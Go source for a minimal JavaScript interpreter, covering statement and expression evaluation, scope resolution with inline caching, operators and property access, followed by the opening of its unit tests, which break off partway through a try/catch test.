	if err := it.step(); err != nil {
		return Undefined(), err
	}
	frame.Line = n.nodeLine()
	switch st := n.(type) {
	case *VarDecl:
		for i, name := range st.Names {
			v := Undefined()
			if st.Inits[i] != nil {
				var err error
				v, err = it.evalExpr(st.Inits[i], sc, frame)
				if err != nil {
					return Undefined(), err
				}
			}
			sc.declare(name, v)
		}
		return Undefined(), nil

	case *ExprStmt:
		return it.evalExpr(st.X, sc, frame)

	case *FuncDecl:
		return Undefined(), nil // hoisted

	case *BlockStmt:
		inner := sc
		if st.NeedsScope {
			inner = NewScope(sc)
			it.hoist(st.Body, inner)
		}
		var last Value
		for _, s := range st.Body {
			v, err := it.evalStmt(s, inner, frame)
			if err != nil {
				return Undefined(), err
			}
			last = v
		}
		return last, nil

	case *IfStmt:
		cond, err := it.evalExpr(st.Cond, sc, frame)
		if err != nil {
			return Undefined(), err
		}
		if cond.Truthy() {
			return it.evalStmt(st.Then, sc, frame)
		}
		if st.Else != nil {
			return it.evalStmt(st.Else, sc, frame)
		}
		return Undefined(), nil

	case *WhileStmt:
		for {
			cond, err := it.evalExpr(st.Cond, sc, frame)
			if err != nil {
				return Undefined(), err
			}
			if !cond.Truthy() {
				return Undefined(), nil
			}
			if _, err := it.evalStmt(st.Body, sc, frame); err != nil {
				if err == errBreak {
					return Undefined(), nil
				}
				if err == errContinue {
					continue
				}
				return Undefined(), err
			}
		}

	case *DoWhileStmt:
		for {
			if _, err := it.evalStmt(st.Body, sc, frame); err != nil {
				if err == errBreak {
					return Undefined(), nil
				}
				if err != errContinue {
					return Undefined(), err
				}
			}
			cond, err := it.evalExpr(st.Cond, sc, frame)
			if err != nil {
				return Undefined(), err
			}
			if !cond.Truthy() {
				return Undefined(), nil
			}
		}

	case *ForStmt:
		inner := NewScope(sc)
		if st.Init != nil {
			if _, err := it.evalStmt(st.Init, inner, frame); err != nil {
				return Undefined(), err
			}
		}
		for {
			if st.Cond != nil {
				cond, err := it.evalExpr(st.Cond, inner, frame)
				if err != nil {
					return Undefined(), err
				}
				if !cond.Truthy() {
					return Undefined(), nil
				}
			}
			if _, err := it.evalStmt(st.Body, inner, frame); err != nil {
				if err == errBreak {
					return Undefined(), nil
				}
				if err != errContinue {
					return Undefined(), err
				}
			}
			if st.Post != nil {
				if _, err := it.evalExpr(st.Post, inner, frame); err != nil {
					return Undefined(), err
				}
			}
		}

	case *ForInStmt:
		objV, err := it.evalExpr(st.Obj, sc, frame)
		if err != nil {
			return Undefined(), err
		}
		inner := NewScope(sc)
		assign := func(v Value) {
			if st.Decl != "" {
				inner.declare(st.Name, v)
			} else if slot := lookupSlot(inner, st.Name); slot != nil {
				*slot = v
			} else if it.Global.Has(st.Name) {
				if err := it.setMember(it.Global, st.Name, v); err == nil {
					return
				}
			} else {
				inner.declare(st.Name, v)
			}
		}
		runBody := func() (stop bool, err error) {
			if _, err := it.evalStmt(st.Body, inner, frame); err != nil {
				if err == errBreak {
					return true, nil
				}
				if err != errContinue {
					return false, err
				}
			}
			return false, nil
		}
		if st.Of {
			// for…of: arrays and strings
			switch {
			case objV.IsObject() && objV.Obj.Class == "Array":
				for _, el := range objV.Obj.Elems {
					assign(el)
					stop, err := runBody()
					if err != nil || stop {
						return Undefined(), err
					}
				}
			case objV.Kind == KindString:
				for _, r := range objV.Str {
					assign(String(string(r)))
					stop, err := runBody()
					if err != nil || stop {
						return Undefined(), err
					}
				}
			case objV.IsNullish():
				return Undefined(), it.ThrowError("TypeError", "cannot iterate %s", objV.TypeOf())
			}
			return Undefined(), nil
		}
		if !objV.IsObject() {
			return Undefined(), nil // for…in over primitives iterates nothing here
		}
		for _, key := range objV.Obj.EnumerateAll() {
			assign(String(key))
			stop, err := runBody()
			if err != nil || stop {
				return Undefined(), err
			}
		}
		return Undefined(), nil

	case *ReturnStmt:
		v := Undefined()
		if st.X != nil {
			var err error
			v, err = it.evalExpr(st.X, sc, frame)
			if err != nil {
				return Undefined(), err
			}
		}
		return Undefined(), &returnSignal{v}

	case *BreakStmt:
		return Undefined(), errBreak
	case *ContinueStmt:
		return Undefined(), errContinue

	case *ThrowStmt:
		v, err := it.evalExpr(st.X, sc, frame)
		if err != nil {
			return Undefined(), err
		}
		return Undefined(), &Throw{Value: v, Stack: it.CaptureStack()}

	case *TryStmt:
		_, err := it.evalStmt(st.Body, sc, frame)
		if thr, ok := err.(*Throw); ok && st.Catch != nil {
			inner := NewScope(sc)
			if st.CatchName != "" {
				inner.declare(st.CatchName, thr.Value)
			}
			_, err = it.evalStmt(st.Catch, inner, frame)
		}
		if st.Finally != nil {
			if _, ferr := it.evalStmt(st.Finally, sc, frame); ferr != nil {
				return Undefined(), ferr // finally overrides pending completion
			}
		}
		if err != nil {
			return Undefined(), err
		}
		return Undefined(), nil

	case *SwitchStmt:
		tag, err := it.evalExpr(st.Tag, sc, frame)
		if err != nil {
			return Undefined(), err
		}
		inner := NewScope(sc)
		matched := -1
		for i, c := range st.Cases {
			tv, err := it.evalExpr(c.Test, inner, frame)
			if err != nil {
				return Undefined(), err
			}
			if StrictEquals(tag, tv) {
				matched = i
				break
			}
		}
		runFrom := func(start int, includeDefaultAt int) error {
			for i := start; i < len(st.Cases); i++ {
				if includeDefaultAt == i && st.HasDef {
					for _, s := range st.Default {
						if _, err := it.evalStmt(s, inner, frame); err != nil {
							return err
						}
					}
				}
				for _, s := range st.Cases[i].Body {
					if _, err := it.evalStmt(s, inner, frame); err != nil {
						return err
					}
				}
			}
			if includeDefaultAt >= len(st.Cases) && st.HasDef {
				for _, s := range st.Default {
					if _, err := it.evalStmt(s, inner, frame); err != nil {
						return err
					}
				}
			}
			return nil
		}
		var rerr error
		if matched >= 0 {
			rerr = runFrom(matched, -1)
		} else if st.HasDef {
			rerr = runFrom(st.DefPos, st.DefPos)
		}
		if rerr == errBreak {
			rerr = nil
		}
		return Undefined(), rerr
	}
	return Undefined(), it.ThrowError("InternalError", "unknown statement node %T", n)
}

// evalExpr evaluates an expression node.
func (it *Interp) evalExpr(n Node, sc *Scope, frame *Frame) (Value, error) {
	if err := it.step(); err != nil {
		return Undefined(), err
	}
	switch x := n.(type) {
	case *Literal:
		return x.Val, nil

	case *Ident:
		return it.lookupIdent(x.Name, sc)

	case *ThisExpr:
		if it.curThis.Kind == KindUndefined {
			return ObjectValue(it.Global), nil
		}
		return it.curThis, nil

	case *ArrayLit:
		elems := make([]Value, 0, len(x.Elems))
		for _, e := range x.Elems {
			v, err := it.evalExpr(e, sc, frame)
			if err != nil {
				return Undefined(), err
			}
			elems = append(elems, v)
		}
		return ObjectValue(it.NewArrayP(elems...)), nil

	case *ObjectLit:
		o := it.NewObjectP()
		for i, k := range x.Keys {
			v, err := it.evalExpr(x.Vals[i], sc, frame)
			if err != nil {
				return Undefined(), err
			}
			o.Set(k, v)
		}
		return ObjectValue(o), nil

	case *FuncLit:
		fn := it.makeFunction(x, sc)
		if x.Arrow {
			fn.fnd.ThisVal = it.curThis
			if fn.fnd.ThisVal.Kind == KindUndefined {
				fn.fnd.ThisVal = ObjectValue(it.Global)
			}
		}
		return ObjectValue(fn), nil

	case *UnaryExpr:
		return it.evalUnary(x, sc, frame)

	case *PostfixExpr:
		old, err := it.evalExpr(x.X, sc, frame)
		if err != nil {
			return Undefined(), err
		}
		n := old.ToNumber()
		var nv Value
		if x.Op == "++" {
			nv = Number(n + 1)
		} else {
			nv = Number(n - 1)
		}
		if err := it.assignTo(x.X, nv, sc, frame); err != nil {
			return Undefined(), err
		}
		return Number(n), nil

	case *BinaryExpr:
		return it.evalBinary(x, sc, frame)

	case *LogicalExpr:
		l, err := it.evalExpr(x.L, sc, frame)
		if err != nil {
			return Undefined(), err
		}
		switch x.Op {
		case "&&":
			if !l.Truthy() {
				return l, nil
			}
		case "||":
			if l.Truthy() {
				return l, nil
			}
		case "??":
			if !l.IsNullish() {
				return l, nil
			}
		}
		return it.evalExpr(x.R, sc, frame)

	case *CondExpr:
		c, err := it.evalExpr(x.Cond, sc, frame)
		if err != nil {
			return Undefined(), err
		}
		if c.Truthy() {
			return it.evalExpr(x.Then, sc, frame)
		}
		return it.evalExpr(x.Else, sc, frame)

	case *AssignExpr:
		var val Value
		var err error
		if x.Op == "=" {
			val, err = it.evalExpr(x.Val, sc, frame)
			if err != nil {
				return Undefined(), err
			}
		} else {
			old, err := it.evalExpr(x.Target, sc, frame)
			if err != nil {
				return Undefined(), err
			}
			rhs, err := it.evalExpr(x.Val, sc, frame)
			if err != nil {
				return Undefined(), err
			}
			val, err = it.applyBinary(x.Op[:len(x.Op)-1], old, rhs)
			if err != nil {
				return Undefined(), err
			}
		}
		if err := it.assignTo(x.Target, val, sc, frame); err != nil {
			return Undefined(), err
		}
		return val, nil

	case *MemberExpr:
		objV, key, err := it.evalMemberOperands(x, sc, frame)
		if err != nil {
			return Undefined(), err
		}
		return it.GetMember(objV, key)

	case *CallExpr:
		return it.evalCall(x, sc, frame)

	case *NewExpr:
		cv, err := it.evalExpr(x.Ctor, sc, frame)
		if err != nil {
			return Undefined(), err
		}
		if !cv.IsFunction() {
			return Undefined(), it.ThrowError("TypeError", "not a constructor")
		}
		args, err := it.evalArgs(x.Args, sc, frame)
		if err != nil {
			return Undefined(), err
		}
		return it.Construct(cv.Obj, args)
	}
	return Undefined(), it.ThrowError("InternalError", "unknown expression node %T", n)
}

// lookupSlot finds the binding slot for name along the scope chain, or nil.
func lookupSlot(sc *Scope, name string) *Value {
	for cur := sc; cur != nil; cur = cur.parent {
		if p := cur.slot(name); p != nil {
			return p
		}
	}
	return nil
}

func (it *Interp) lookupIdent(name string, sc *Scope) (Value, error) {
	for cur := sc; cur != nil; cur = cur.parent {
		if p := cur.slot(name); p != nil {
			return *p, nil
		}
		if cur.global != nil {
			// resolve on the global object directly — one chain walk instead
			// of Has + GetMember doing the same walk twice. The global is a
			// plain host object (never an Array or function), so the member
			// fast paths and intrinsics in getMember cannot apply.
			if owner, prop := cur.global.FindProperty(name); prop != nil {
				if it.PropAccessHook != nil {
					it.PropAccessHook(owner, name)
				}
				if prop.Accessor {
					if prop.Get == nil {
						return Undefined(), nil
					}
					return it.CallFunction(prop.Get, ObjectValue(cur.global), nil)
				}
				return prop.Value, nil
			}
		}
	}
	return Undefined(), it.ThrowError("ReferenceError", "%s is not defined", name)
}

// lookupIdentVM is lookupIdent with an inline-cache slot for the global leg
// of the resolution. The scope-chain walk always runs — a local binding can
// shadow a global between executions of the same instruction — but when it
// comes up empty, a cache hit keyed on the global object's identity and
// mutation version skips the global's property-chain walk. Observable
// behaviour (PropAccessHook owner, accessor invocation, values, errors) is
// identical to lookupIdent; accessor properties are never cached.
func (it *Interp) lookupIdentVM(name string, sc *Scope, e *icEntry) (Value, error) {
	for cur := sc; cur != nil; cur = cur.parent {
		if p := cur.slot(name); p != nil {
			return *p, nil
		}
		g := cur.global
		if g == nil {
			continue
		}
		if e != nil && e.prop != nil && e.recv == g && e.recvVer == g.ver {
			owner := g
			ok := e.proto == nil
			if !ok && g.Proto == e.proto && e.protoVer == e.proto.ver {
				owner, ok = e.proto, true
			}
			if ok {
				if it.PropAccessHook != nil {
					it.PropAccessHook(owner, name)
				}
				return e.prop.Value, nil
			}
		}
		owner, prop := g.FindProperty(name)
		if prop == nil {
			continue
		}
		if it.PropAccessHook != nil {
			it.PropAccessHook(owner, name)
		}
		if prop.Accessor {
			if prop.Get == nil {
				return Undefined(), nil
			}
			return it.CallFunction(prop.Get, ObjectValue(g), nil)
		}
		if e != nil {
			if owner == g {
				*e = icEntry{recv: g, recvVer: g.ver, prop: prop}
			} else if owner == g.Proto {
				*e = icEntry{recv: g, recvVer: g.ver, proto: owner, protoVer: owner.ver, prop: prop}
			}
		}
		return prop.Value, nil
	}
	return Undefined(), it.ThrowError("ReferenceError", "%s is not defined", name)
}

func (it *Interp) evalArgs(nodes []Node, sc *Scope, frame *Frame) ([]Value, error) {
	args := make([]Value, 0, len(nodes))
	for _, a := range nodes {
		v, err := it.evalExpr(a, sc, frame)
		if err != nil {
			return nil, err
		}
		args = append(args, v)
	}
	return args, nil
}

func (it *Interp) evalMemberOperands(x *MemberExpr, sc *Scope, frame *Frame) (Value, string, error) {
	objV, err := it.evalExpr(x.Obj, sc, frame)
	if err != nil {
		return Undefined(), "", err
	}
	key := x.Name
	if x.Computed {
		kv, err := it.evalExpr(x.Index, sc, frame)
		if err != nil {
			return Undefined(), "", err
		}
		key = kv.ToString()
	}
	return objV, key, nil
}

func (it *Interp) evalCall(x *CallExpr, sc *Scope, frame *Frame) (Value, error) {
	// method call: evaluate receiver once
	if m, ok := x.Fn.(*MemberExpr); ok {
		objV, key, err := it.evalMemberOperands(m, sc, frame)
		if err != nil {
			return Undefined(), err
		}
		fnV, err := it.GetMember(objV, key)
		if err != nil {
			return Undefined(), err
		}
		if !fnV.IsFunction() {
			return Undefined(), it.ThrowError("TypeError", "%s.%s is not a function", objV.TypeOf(), key)
		}
		args, err := it.evalArgs(x.Args, sc, frame)
		if err != nil {
			return Undefined(), err
		}
		return it.CallFunction(fnV.Obj, objV, args)
	}
	fnV, err := it.evalExpr(x.Fn, sc, frame)
	if err != nil {
		return Undefined(), err
	}
	if !fnV.IsFunction() {
		name := "value"
		if id, ok := x.Fn.(*Ident); ok {
			name = id.Name
		}
		return Undefined(), it.ThrowError("TypeError", "%s is not a function", name)
	}
	args, err := it.evalArgs(x.Args, sc, frame)
	if err != nil {
		return Undefined(), err
	}
	return it.CallFunction(fnV.Obj, ObjectValue(it.Global), args)
}

func (it *Interp) evalUnary(x *UnaryExpr, sc *Scope, frame *Frame) (Value, error) {
	switch x.Op {
	case "typeof":
		// typeof on an unresolvable identifier yields "undefined" (no throw)
		if id, ok := x.X.(*Ident); ok {
			if v, err := it.lookupIdent(id.Name, sc); err == nil {
				return String(v.TypeOf()), nil
			}
			return String("undefined"), nil
		}
		v, err := it.evalExpr(x.X, sc, frame)
		if err != nil {
			return Undefined(), err
		}
		return String(v.TypeOf()), nil

	case "delete":
		m, ok := x.X.(*MemberExpr)
		if !ok {
			return Boolean(true), nil
		}
		objV, key, err := it.evalMemberOperands(m, sc, frame)
		if err != nil {
			return Undefined(), err
		}
		if !objV.IsObject() {
			return Boolean(true), nil
		}
		return Boolean(objV.Obj.Delete(key)), nil

	case "++", "--":
		old, err := it.evalExpr(x.X, sc, frame)
		if err != nil {
			return Undefined(), err
		}
		n := old.ToNumber()
		var nv Value
		if x.Op == "++" {
			nv = Number(n + 1)
		} else {
			nv = Number(n - 1)
		}
		if err := it.assignTo(x.X, nv, sc, frame); err != nil {
			return Undefined(), err
		}
		return nv, nil
	}

	v, err := it.evalExpr(x.X, sc, frame)
	if err != nil {
		return Undefined(), err
	}
	switch x.Op {
	case "!":
		return Boolean(!v.Truthy()), nil
	case "-":
		return Number(-v.ToNumber()), nil
	case "+":
		return Number(v.ToNumber()), nil
	case "~":
		return Number(float64(^toInt32(v.ToNumber()))), nil
	}
	return Undefined(), it.ThrowError("InternalError", "unknown unary op %q", x.Op)
}

func (it *Interp) evalBinary(x *BinaryExpr, sc *Scope, frame *Frame) (Value, error) {
	l, err := it.evalExpr(x.L, sc, frame)
	if err != nil {
		return Undefined(), err
	}
	r, err := it.evalExpr(x.R, sc, frame)
	if err != nil {
		return Undefined(), err
	}
	return it.applyBinary(x.Op, l, r)
}

func toInt32(f float64) int32 {
	if math.IsNaN(f) || math.IsInf(f, 0) {
		return 0
	}
	return int32(int64(f))
}

// maxStringLen bounds string growth: a hostile `s = s + s` loop would
// otherwise exhaust memory long before the step limit fires (real engines
// throw "allocation size overflow" similarly).
const maxStringLen = 4 << 20

// Binary operator codes: the compiler resolves operator strings once so the
// VM dispatches on integers; applyBinary resolves per call for the
// tree-walker. Both funnel into binop — one implementation, two front ends.
const (
	binAdd = iota
	binSub
	binMul
	binDiv
	binMod
	binLooseEq
	binLooseNe
	binStrictEq
	binStrictNe
	binLt
	binGt
	binLe
	binGe
	binBitAnd
	binBitOr
	binBitXor
	binShl
	binShr
	binUshr
	binIn
	binInstanceof
)

var binOpCodes = map[string]int32{
	"+": binAdd, "-": binSub, "*": binMul, "/": binDiv, "%": binMod,
	"==": binLooseEq, "!=": binLooseNe, "===": binStrictEq, "!==": binStrictNe,
	"<": binLt, ">": binGt, "<=": binLe, ">=": binGe,
	"&": binBitAnd, "|": binBitOr, "^": binBitXor,
	"<<": binShl, ">>": binShr, ">>>": binUshr,
	"in": binIn, "instanceof": binInstanceof,
}

func (it *Interp) applyBinary(op string, l, r Value) (Value, error) {
	code, ok := binOpCodes[op]
	if !ok {
		return Undefined(), it.ThrowError("InternalError", "unknown binary op %q", op)
	}
	return it.binop(code, l, r)
}

func (it *Interp) binop(code int32, l, r Value) (Value, error) {
	switch code {
	case binAdd:
		if l.Kind == KindString || r.Kind == KindString ||
			(l.Kind == KindObject && !l.IsNullish()) || (r.Kind == KindObject && !r.IsNullish()) {
			ls, rs := l.ToString(), r.ToString()
			if len(ls)+len(rs) > maxStringLen {
				return Undefined(), it.ThrowError("RangeError", "allocation size overflow")
			}
			// large concatenations consume step budget proportionally, so
			// catch-and-retry loops still hit the interrupt
			it.steps += int64(len(ls)+len(rs)) / 256
			return String(ls + rs), nil
		}
		return Number(l.ToNumber() + r.ToNumber()), nil
	case binSub:
		return Number(l.ToNumber() - r.ToNumber()), nil
	case binMul:
		return Number(l.ToNumber() * r.ToNumber()), nil
	case binDiv:
		return Number(l.ToNumber() / r.ToNumber()), nil
	case binMod:
		return Number(math.Mod(l.ToNumber(), r.ToNumber())), nil
	case binLooseEq:
		return Boolean(LooseEquals(l, r)), nil
	case binLooseNe:
		return Boolean(!LooseEquals(l, r)), nil
	case binStrictEq:
		return Boolean(StrictEquals(l, r)), nil
	case binStrictNe:
		return Boolean(!StrictEquals(l, r)), nil
	case binLt, binGt, binLe, binGe:
		if l.Kind == KindString && r.Kind == KindString {
			switch code {
			case binLt:
				return Boolean(l.Str < r.Str), nil
			case binGt:
				return Boolean(l.Str > r.Str), nil
			case binLe:
				return Boolean(l.Str <= r.Str), nil
			default:
				return Boolean(l.Str >= r.Str), nil
			}
		}
		ln, rn := l.ToNumber(), r.ToNumber()
		switch code {
		case binLt:
			return Boolean(ln < rn), nil
		case binGt:
			return Boolean(ln > rn), nil
		case binLe:
			return Boolean(ln <= rn), nil
		default:
			return Boolean(ln >= rn), nil
		}
	case binBitAnd:
		return Number(float64(toInt32(l.ToNumber()) & toInt32(r.ToNumber()))), nil
	case binBitOr:
		return Number(float64(toInt32(l.ToNumber()) | toInt32(r.ToNumber()))), nil
	case binBitXor:
		return Number(float64(toInt32(l.ToNumber()) ^ toInt32(r.ToNumber()))), nil
	case binShl:
		return Number(float64(toInt32(l.ToNumber()) << (uint32(toInt32(r.ToNumber())) & 31))), nil
	case binShr:
		return Number(float64(toInt32(l.ToNumber()) >> (uint32(toInt32(r.ToNumber())) & 31))), nil
	case binUshr:
		return Number(float64(uint32(toInt32(l.ToNumber())) >> (uint32(toInt32(r.ToNumber())) & 31))), nil
	case binIn:
		if !r.IsObject() {
			return Undefined(), it.ThrowError("TypeError", "'in' requires an object")
		}
		return Boolean(r.Obj.Has(l.ToString())), nil
	case binInstanceof:
		if !r.IsFunction() {
			return Undefined(), it.ThrowError("TypeError", "right-hand side of instanceof is not callable")
		}
		pv, err := it.GetMember(r, "prototype")
		if err != nil || !pv.IsObject() {
			return Boolean(false), nil
		}
		if !l.IsObject() {
			return Boolean(false), nil
		}
		for cur := l.Obj.Proto; cur != nil; cur = cur.Proto {
			if cur == pv.Obj {
				return Boolean(true), nil
			}
		}
		return Boolean(false), nil
	}
	return Undefined(), it.ThrowError("InternalError", "unknown binary op code %d", code)
}

// assignTo stores val into an Ident or MemberExpr target.
func (it *Interp) assignTo(target Node, val Value, sc *Scope, frame *Frame) error {
	switch t := target.(type) {
	case *Ident:
		for cur := sc; cur != nil; cur = cur.parent {
			if slot := cur.slot(t.Name); slot != nil {
				*slot = val
				return nil
			}
			if cur.global != nil {
				// assignment to globals (declared or not) writes the global object
				return it.setMember(cur.global, t.Name, val)
			}
		}
		it.Global.Set(t.Name, val)
		return nil
	case *MemberExpr:
		objV, key, err := it.evalMemberOperands(t, sc, frame)
		if err != nil {
			return err
		}
		if !objV.IsObject() {
			return it.ThrowError("TypeError", "cannot set property %q on %s", key, objV.TypeOf())
		}
		return it.setMember(objV.Obj, key, val)
	}
	return it.ThrowError("ReferenceError", "invalid assignment target")
}

// GetMember reads property key from a value, invoking getters and firing the
// property-access hook. It implements string/number primitive boxing.
func (it *Interp) GetMember(objV Value, key string) (Value, error) {
	v, _, _, err := it.getMember(objV, key)
	return v, err
}

// getMember is GetMember plus the (owner, prop) pair when the read resolved
// through an ordinary property slot; the VM fills its inline caches from it.
// owner/prop are nil for primitive boxing, array fast paths, intrinsics and
// misses.
func (it *Interp) getMember(objV Value, key string) (Value, *Object, *Property, error) {
	switch objV.Kind {
	case KindUndefined, KindNull:
		err := it.ThrowError("TypeError", "cannot read property %q of %s", key, objV.TypeOf())
		return Undefined(), nil, nil, err
	case KindString:
		v, err := it.stringMember(objV.Str, key)
		return v, nil, nil, err
	case KindNumber:
		v, err := it.protoMember(it.Protos.Number, objV, key)
		return v, nil, nil, err
	case KindBool:
		v, err := it.protoMember(it.Protos.Boolean, objV, key)
		return v, nil, nil, err
	}
	o := objV.Obj
	// array fast paths
	if o.Class == "Array" {
		if key == "length" {
			return Int(len(o.Elems)), nil, nil, nil
		}
		if idx, ok := arrayIndex(key); ok {
			if idx < len(o.Elems) {
				return o.Elems[idx], nil, nil, nil
			}
			return Undefined(), nil, nil, nil
		}
	}
	owner, prop := o.FindProperty(key)
	if prop == nil {
		if v, ok := it.functionIntrinsic(o, key); ok {
			return v, nil, nil, nil
		}
		return Undefined(), nil, nil, nil
	}
	if it.PropAccessHook != nil {
		it.PropAccessHook(owner, key)
	}
	if prop.Accessor {
		if prop.Get == nil {
			return Undefined(), nil, nil, nil
		}
		v, err := it.CallFunction(prop.Get, objV, nil)
		return v, nil, nil, err
	}
	return prop.Value, owner, prop, nil
}

// protoMember resolves key on a primitive's prototype, binding `this`.
func (it *Interp) protoMember(proto *Object, this Value, key string) (Value, error) {
	owner, prop := proto.FindProperty(key)
	if prop == nil {
		return Undefined(), nil
	}
	if it.PropAccessHook != nil {
		it.PropAccessHook(owner, key)
	}
	if prop.Accessor {
		if prop.Get == nil {
			return Undefined(), nil
		}
		return it.CallFunction(prop.Get, this, nil)
	}
	return prop.Value, nil
}

func (it *Interp) stringMember(s, key string) (Value, error) {
	if key == "length" {
		return Int(len(s)), nil
	}
	if idx, ok := arrayIndex(key); ok {
		if idx < len(s) {
			return String(s[idx : idx+1]), nil
		}
		return Undefined(), nil
	}
	return it.protoMember(it.Protos.String, String(s), key)
}

// setMember writes property key on o, honouring setters along the chain.
func (it *Interp) setMember(o *Object, key string, val Value) error {
	if o.Class == "Array" {
		if key == "length" {
			n := int(val.ToNumber())
			if n < 0 {
				n = 0
			}
			for len(o.Elems) < n {
				o.Elems = append(o.Elems, Undefined())
			}
			o.Elems = o.Elems[:n]
			return nil
		}
		if idx, ok := arrayIndex(key); ok {
			for len(o.Elems) <= idx {
				o.Elems = append(o.Elems, Undefined())
			}
			o.Elems[idx] = val
			return nil
		}
	}
	// own property?
	if prop, ok := o.lookupOwn(key); ok {
		if prop.Accessor {
			if prop.Set == nil {
				return nil // silently ignored (sloppy mode)
			}
			_, err := it.CallFunction(prop.Set, ObjectValue(o), []Value{val})
			return err
		}
		if !prop.Writable {
			return nil
		}
		prop.Value = val
		return nil
	}
	// inherited accessor?
	if _, prop := o.FindProperty(key); prop != nil && prop.Accessor {
		if prop.Set == nil {
			return nil
		}
		_, err := it.CallFunction(prop.Set, ObjectValue(o), []Value{val})
		return err
	}
	if o.NotExtensible {
		return nil
	}
	o.Set(key, val)
	return nil
}

// SetMember is the exported host-side property write.
func (it *Interp) SetMember(o *Object, key string, val Value) error {
	return it.setMember(o, key, val)
}
