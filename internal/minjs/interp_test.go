package minjs

import (
	"strings"
	"testing"
)

// run evaluates src in a fresh realm and returns the completion value.
func run(t *testing.T, src string) Value {
	t.Helper()
	it := New()
	v, err := it.RunScript(src, "test.js")
	if err != nil {
		t.Fatalf("RunScript(%q): %v", src, err)
	}
	return v
}

func runIn(t *testing.T, it *Interp, src string) Value {
	t.Helper()
	v, err := it.RunScript(src, "test.js")
	if err != nil {
		t.Fatalf("RunScript(%q): %v", src, err)
	}
	return v
}

func wantNum(t *testing.T, v Value, want float64) {
	t.Helper()
	if v.Kind != KindNumber || v.Num != want {
		t.Fatalf("got %s %v, want number %v", v.Kind, v, want)
	}
}

func wantStr(t *testing.T, v Value, want string) {
	t.Helper()
	if v.Kind != KindString || v.Str != want {
		t.Fatalf("got %s %q, want string %q", v.Kind, v.ToString(), want)
	}
}

func wantBool(t *testing.T, v Value, want bool) {
	t.Helper()
	if v.Kind != KindBool || v.Bool != want {
		t.Fatalf("got %s %v, want bool %v", v.Kind, v, want)
	}
}

func TestArithmetic(t *testing.T) {
	cases := []struct {
		src  string
		want float64
	}{
		{"1 + 2 * 3", 7},
		{"(1 + 2) * 3", 9},
		{"10 % 3", 1},
		{"2 * 3 + 4 / 2", 8},
		{"-5 + 3", -2},
		{"0x10 + 1", 17},
		{"1e3 / 10", 100},
		{"7 & 3", 3},
		{"1 << 4", 16},
		{"255 >> 4", 15},
		{"5 ^ 1", 4},
	}
	for _, c := range cases {
		wantNum(t, run(t, c.src), c.want)
	}
}

func TestStringOps(t *testing.T) {
	wantStr(t, run(t, `"foo" + "bar"`), "foobar")
	wantStr(t, run(t, `"a" + 1`), "a1")
	wantNum(t, run(t, `"hello".length`), 5)
	wantNum(t, run(t, `"hello".indexOf("ll")`), 2)
	wantBool(t, run(t, `"webdriver".includes("driver")`), true)
	wantStr(t, run(t, `"AbC".toLowerCase()`), "abc")
	wantStr(t, run(t, `"a,b,c".split(",")[1]`), "b")
	wantStr(t, run(t, `"\x41\x42"`), "AB")
	wantStr(t, run(t, `String.fromCharCode(119, 101, 98)`), "web")
	wantStr(t, run(t, `"hello"[1]`), "e")
	wantStr(t, run(t, `"xyx".replace("x", "z")`), "zyx")
	wantStr(t, run(t, `"xyx".replaceAll("x", "z")`), "zyz")
}

func TestVarsAndScope(t *testing.T) {
	wantNum(t, run(t, "var x = 1; var y = 2; x + y"), 3)
	wantNum(t, run(t, "var x = 1; { var y = 2; x = x + y } x"), 3)
	wantNum(t, run(t, `
		function mk() { var n = 0; return function() { n = n + 1; return n; }; }
		var c = mk();
		c(); c(); c()`), 3)
	// closures are independent
	wantNum(t, run(t, `
		function mk() { var n = 0; return function() { n++; return n; }; }
		var a = mk(), b = mk();
		a(); a(); b()`), 1)
}

func TestControlFlow(t *testing.T) {
	wantNum(t, run(t, "var s = 0; for (var i = 0; i < 5; i++) { s += i } s"), 10)
	wantNum(t, run(t, "var s = 0; var i = 0; while (i < 4) { s += 2; i++ } s"), 8)
	wantNum(t, run(t, "var s = 0; for (var i = 0; i < 10; i++) { if (i === 3) break; s = i } s"), 2)
	wantNum(t, run(t, "var s = 0; for (var i = 0; i < 5; i++) { if (i % 2 === 0) continue; s += i } s"), 4)
	wantNum(t, run(t, "var n = 0; do { n++ } while (n < 3); n"), 3)
	wantStr(t, run(t, `var r = ""; switch (2) { case 1: r = "a"; break; case 2: r = "b"; break; default: r = "c" } r`), "b")
	wantStr(t, run(t, `var r = ""; switch (9) { case 1: r = "a"; break; default: r = "c" } r`), "c")
	// fallthrough
	wantStr(t, run(t, `var r = ""; switch (1) { case 1: r += "a"; case 2: r += "b"; break; case 3: r += "z" } r`), "ab")
}

func TestObjectsAndPrototypes(t *testing.T) {
	wantNum(t, run(t, "var o = {a: 1, b: {c: 2}}; o.a + o.b.c"), 3)
	wantNum(t, run(t, `var o = {}; o["x"] = 7; o.x`), 7)
	wantBool(t, run(t, `var o = {a: 1}; o.hasOwnProperty("a")`), true)
	wantBool(t, run(t, `var o = {a: 1}; o.hasOwnProperty("b")`), false)
	wantBool(t, run(t, `var o = {a: 1}; "a" in o`), true)
	// prototype chain via Object.create
	wantNum(t, run(t, `
		var proto = {greet: 41};
		var o = Object.create(proto);
		o.greet + 1`), 42)
	// own property shadows prototype
	wantNum(t, run(t, `
		var proto = {v: 1};
		var o = Object.create(proto);
		o.v = 9;
		o.v + proto.v`), 10)
	// hasOwnProperty distinguishes inherited
	wantBool(t, run(t, `
		var proto = {p: 1};
		var o = Object.create(proto);
		o.hasOwnProperty("p")`), false)
	// delete
	wantBool(t, run(t, `var o = {a: 1}; delete o.a; "a" in o`), false)
}

func TestConstructorsAndInstanceof(t *testing.T) {
	wantNum(t, run(t, `
		function Point(x, y) { this.x = x; this.y = y }
		Point.prototype.sum = function() { return this.x + this.y };
		var p = new Point(3, 4);
		p.sum()`), 7)
	wantBool(t, run(t, `
		function A() {}
		var a = new A();
		a instanceof A`), true)
	wantBool(t, run(t, `
		function A() {} function B() {}
		var a = new A();
		a instanceof B`), false)
	wantBool(t, run(t, `var e = new Error("x"); e instanceof Error`), true)
}

func TestThisBinding(t *testing.T) {
	wantNum(t, run(t, `var o = {v: 5, get: function() { return this.v }}; o.get()`), 5)
	// arrow captures lexical this
	wantNum(t, run(t, `
		var o = {v: 6, get: function() { var f = () => this.v; return f(); }};
		o.get()`), 6)
	// call / apply
	wantNum(t, run(t, `function f() { return this.v } f.call({v: 8})`), 8)
	wantNum(t, run(t, `function f(a, b) { return this.v + a + b } f.apply({v: 1}, [2, 3])`), 6)
	wantNum(t, run(t, `function f(a) { return this.v + a } var g = f.bind({v: 10}); g(5)`), 15)
}

func TestTryCatchThrow(t *testing.T) {
	wantStr(t, run(t, `
